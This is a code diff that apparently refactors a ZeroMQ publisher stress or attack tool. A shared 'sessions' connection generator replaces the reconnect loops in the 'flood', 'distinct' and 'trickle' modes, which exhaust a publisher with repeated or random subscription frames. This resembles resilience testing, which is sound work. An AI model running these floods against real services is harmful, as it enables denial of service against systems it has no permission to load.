@@ -878,8 +878,9 @@ class _Target:
         _read_exactly(s, size if flags == 0x04 else int.from_bytes(_read_exactly(s, 7), "big"))
         return s  # libzmq takes a message sent before its own READY for a bad command
 
-    def flood(self, until: float, chunk: bytes, stats: Counter[str]) -> None:
-        """Write ``chunk`` over and over, reconnecting whenever the publisher cuts us off."""
+    def sessions(self, until: float, stats: Counter[str]) -> Iterator[socket.socket]:
+        """Connections one after another until ``until``, each closed when the caller
+        asks for the next: a refused attempt is counted and retried after 10 ms."""
         while _before(until):
             try:
                 s = self.connect()
@@ -888,6 +889,14 @@ class _Target:
                 time.sleep(0.01)
                 continue
             stats["connections"] += 1
+            try:
+                yield s
+            finally:
+                s.close()
+
+    def flood(self, until: float, chunk: bytes, stats: Counter[str]) -> None:
+        """Write ``chunk`` over and over, reconnecting whenever the publisher cuts us off."""
+        for s in self.sessions(until, stats):
             s.settimeout(0.2)
             try:
                 while _before(until):
@@ -897,8 +906,6 @@ class _Target:
                         continue
             except OSError:
                 stats["cut"] += 1
-            finally:
-                s.close()
 
 
 def _attack(kind: str, target: _Target, seconds: float, arg: str) -> dict[str, int]:
@@ -925,14 +932,7 @@ def _attack(kind: str, target: _Target, seconds: float, arg: str) -> dict[str, i
         target.flood(until, _frame(b"\x01" + b"x" * int(arg)), stats)
     elif kind == "distinct":
         topics = b"".join(_frame(b"\x01" + os.urandom(int(arg))) for _ in range(10_000))
-        while _before(until):  # all 10 000 again on each new connection
-            try:
-                s = target.connect()
-            except OSError:
-                stats["refused"] += 1
-                time.sleep(0.01)
-                continue
-            stats["connections"] += 1
+        for s in target.sessions(until, stats):  # all 10 000 again on each new connection
             try:
                 s.sendall(topics)
                 s.settimeout(0.1)  # short, to see a SIGTERM soon
@@ -947,18 +947,9 @@ def _attack(kind: str, target: _Target, seconds: float, arg: str) -> dict[str, i
                 pass
             except OSError:
                 stats["cut"] += 1
-            finally:
-                s.close()
     elif kind == "trickle":  # distinct 120-byte topics, ARG a second, never behind
         rate = int(arg)
-        while _before(until):
-            try:
-                s = target.connect()
-            except OSError:
-                stats["refused"] += 1
-                time.sleep(0.01)
-                continue
-            stats["connections"] += 1
+        for s in target.sessions(until, stats):
             try:
                 while _before(until):
                     s.sendall(
@@ -968,8 +959,6 @@ def _attack(kind: str, target: _Target, seconds: float, arg: str) -> dict[str, i
                     time.sleep(0.01)
             except OSError:
                 stats["cut"] += 1
-            finally:
-                s.close()
     elif kind == "connections":
         held = []
         for _ in range(int(arg)):
